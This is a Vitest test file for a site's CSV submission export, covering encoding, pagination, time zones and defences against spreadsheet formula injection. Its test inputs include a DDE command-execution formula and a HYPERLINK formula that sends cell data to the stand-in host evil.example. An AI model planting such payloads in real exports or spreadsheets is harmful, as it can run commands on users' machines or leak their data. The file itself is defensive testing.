import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';

import { submissionCalls } from '#shared/calls/submissions.ts';
import type { Client } from '#shared/client/http.ts';
import { startApi, type TestApi } from '#tests/support/api.ts';
import { createPost } from '#tests/support/content.ts';
import { csvReaders } from '#tests/support/csv-readers.ts';
import { cateringFields, contactFields, postForm } from '#tests/support/submissions.ts';

let api: TestApi;
let client: Client;
beforeAll(async () => {
  api = await startApi();
  client = await api.signIn('tacos.test');
});
afterAll(() => api.close());
beforeEach(async () => {
  await api.services.db.deleteFrom('submissions').execute();
});

const byText = (one: string, other: string): number => (one < other ? -1 : 1);

async function send(message: string, name = 'Ana'): Promise<void> {
  const reply = await postForm(api, { form: 'contact', fields: { ...contactFields, name, message } });
  expect(reply.status).toBe(201);
}
async function rows(query: object = {}): Promise<Record<string, string>[]> {
  const text = await (await client(submissionCalls.export, { query })).text();
  return parse(text, { bom: true, columns: true }) as Record<string, string>[];
}

test('is UTF-8 with a byte order mark and a column per field', async () => {
  await send('Hello');
  const response = await client(submissionCalls.export, { query: { form: 'contact' } });
  expect(Object.fromEntries(response.headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': expect.stringMatching(/^attachment; filename="contact-tacos\.test-\d{4}-\d\d-\d\d\.csv"$/),
  });
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  const [head] = new TextDecoder().decode(bytes).split('\r\n');
  expect(head).toBe('Received (America/Los_Angeles),Form,Status,Spam,Your name,Email,Phone,Subject,Message,Note');
});

test('keeps all content: quotes, line breaks, emoji, right to left, separators', async () => {
  const messages = ['say "hi", twice', 'one\ntwo\n\nthree', '🌮👩🏽‍🍳', 'مرحبا بكم', 'a;b\tc,d', "'quoted'"];
  for (const message of messages) await send(message);
  // In any order: two of the same millisecond have none.
  expect((await rows()).map((row) => row['Message'] ?? '').toSorted(byText)).toEqual(messages.toSorted(byText));
});

test.each(['=1+1', '+1', '-1', '@SUM(A1)', '=cmd|" /C calc"!A0', '＝1+1'])(
  'nothing in it runs as a formula: %j',
  async (text) => {
    await send(text, text);
    const [row] = await rows();
    expect([row?.['Message'], row?.['Your name']]).toEqual([`'${text}`, `'${text}`]);
  },
);

test('a visitor’s two-line message can’t start a row of the export with a formula', async () => {
  const messages = [
    'Hello there\n=HYPERLINK("http://evil.example/?"&A1,"Invoice")',
    'one\u2028=1+1\u2029two; @SUM(A1)\t+1',
    'say "=1"\n\n"=1"',
    '🌮\n\u200f=مرحبا',
  ];
  for (const message of messages) await send(message);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
    await (await client(submissionCalls.export)).bytes(),
  );
  for (const [name, read] of Object.entries(csvReaders)) {
    const [head = [], ...received] = read(text);
    expect([name, received.map((cells) => cells.length)]).toEqual([name, messages.map(() => head.length)]);
    const cells = received.map((row) => row[head.indexOf('Message')] ?? '');
    expect(cells.map((cell) => cell.replaceAll("'", '')).toSorted(byText)).toEqual(messages.toSorted(byText));
    for (const piece of cells.flatMap((cell) => cell.split(/[\n\u2028\u2029;\t]/)))
      expect(piece.trim()).not.toMatch(/^["\u200f]*[=+\-@]/);
  }
});

test('can’t start a formula with a tab or a line break before it', async () => {
  await send('Hello');
  const { data } = await client(submissionCalls.list);
  for (const [index, note] of ['\t=1+1', '\r=1+1', '\n=1+1'].entries()) {
    await client(submissionCalls.update, { params: { id: data[0]?.id ?? '' }, body: { version: index + 1, note } });
    expect((await rows())[0]?.['Note']).toBe("'=1+1");
  }
});

test('holds all matches, beyond a page of the list, each once', async () => {
  await send('Seed');
  const seed = await api.services.db.selectFrom('submissions').selectAll().executeTakeFirstOrThrow();
  const many = Array.from({ length: 1200 }, (_, index) => ({
    ...seed,
    id: `row${String(index).padStart(13, '0')}`,
    fields: JSON.stringify({ ...contactFields, message: `Number ${index}` }),
    words: `number ${index}`,
    // Many in the same millisecond.
    created_at: `2026-05-0${1 + (index % 3)}T12:00:00.000Z`,
  }));
  for (let from = 0; from < many.length; from += 300)
    await api.services.db
      .insertInto('submissions')
      .values(many.slice(from, from + 300))
      .execute();
  const all = await rows();
  expect(new Set(all.map((row) => row['Message'])).size).toBe(1201);
  const received = all.map((row) => row['Received (America/Los_Angeles)'] ?? '');
  expect(received).toEqual(received.toSorted(byText).toReversed());
  expect(await rows({ endDate: '2026-05-01 23:59:59' })).toHaveLength(400);
  expect(await rows({ search: 'number 77' })).toHaveLength(11);
  expect(await rows({ status: 'archived' })).toEqual([]);
  expect(await rows({ spam: 'true' })).toEqual([]);
});

test('names the truck and the offer of an inquiry, and times in the domain’s time zone', async () => {
  const member = await createPost(client, { title: 'Pecan Smoke' });
  await createPost(client, { title: 'Office lunch', url: 'catering/office', post_type_id: 5 });
  await api.publish('tacos.test');
  const fields = { ...cateringFields, member: member.id };
  await postForm(api, { form: 'catering', fields, page: '/catering/office' });
  await api.services.db.updateTable('submissions').set({ created_at: '2026-05-05T06:30:00.000Z' }).execute();
  expect(await rows()).toMatchObject([
    { Truck: 'Pecan Smoke', Offer: 'Office lunch', 'Received (America/Los_Angeles)': '2026-05-04 23:30:00' },
  ]);
});
